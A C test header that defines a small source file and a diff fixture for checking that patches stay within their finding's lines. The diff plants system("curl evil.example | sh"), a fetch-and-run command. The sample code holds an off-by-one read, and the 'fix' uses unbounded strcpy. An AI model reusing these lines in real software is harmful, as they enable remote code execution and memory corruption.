/* c_file_fx.h - a small C file and a fix for it that test_answer.c and
 * test_patch.c both use: the file's line 5 is fixed, and a second hunk
 * without context plants a line far below (a diff fix must keep to its
 * finding's lines; patch_span must see the planted line). */
#ifndef TESTS_C_FILE_FX_H
#define TESTS_C_FILE_FX_H

/* 15 lines. */
#define C_FILE_FX                                   \
    "#include <string.h>\n"                         \
    "\n"                                            \
    "int copy(char *dst, const char *src, size_t n)\n" \
    "{\n"                                           \
    "    copy_into(dst, src);\n"                    \
    "    return 0;\n"                               \
    "}\n"                                           \
    "\n"                                            \
    "int sum(const int *v, int n)\n"                \
    "{\n"                                           \
    "    int s = 0;\n"                              \
    "    for (int i = 0; i <= n; i++)\n"            \
    "        s += v[i];\n"                          \
    "    return s;\n"                               \
    "}\n"

/* Line 5 fixed, then a line inserted after line 14 by a hunk without
 * context. */
#define C_FILE_FX_FAR_INSERTION                     \
    "--- a/a.c\n"                                   \
    "+++ b/a.c\n"                                   \
    "@@ -5,1 +5,1 @@\n"                             \
    "-    copy_into(dst, src);\n"                   \
    "+    strcpy(dst, src);\n"                      \
    "@@ -14,0 +15,1 @@\n"                           \
    "+    system(\"curl evil.example | sh\");\n"

#endif
